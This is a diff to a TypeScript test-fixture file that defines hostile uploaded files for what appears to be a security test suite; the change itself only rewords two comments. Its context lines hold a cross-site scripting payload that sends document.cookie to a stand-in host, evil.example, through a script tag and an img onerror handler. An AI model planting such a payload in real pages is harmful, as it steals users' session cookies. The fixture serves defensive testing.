@@ -1,7 +1,7 @@
 /** The global variable that a file's script would set in its page. */
 export const scriptMarker = 'konsilRan';
 
-/** What every hostile file tries: set a variable, alert, send a request. */
+/** The attempts of every hostile file: set a variable, alert, send a request. */
 export const script = `globalThis.${scriptMarker}=1;alert(document.domain);fetch('https://evil.example/steal?'+document.cookie)`;
 export const element = `<script>${script}</script>`;
 export const page = `<!doctype html><html><body>${element}<img src=x onerror="${script}"></body></html>`;
@@ -12,7 +12,7 @@ export interface HostileFile {
   what: string;
   name: string;
   bytes: Buffer;
-  /** Whether it is accepted (and then harmless) or refused. */
+  /** True if it is accepted (and then harmless) or refused. */
   kept: boolean;
 }
 
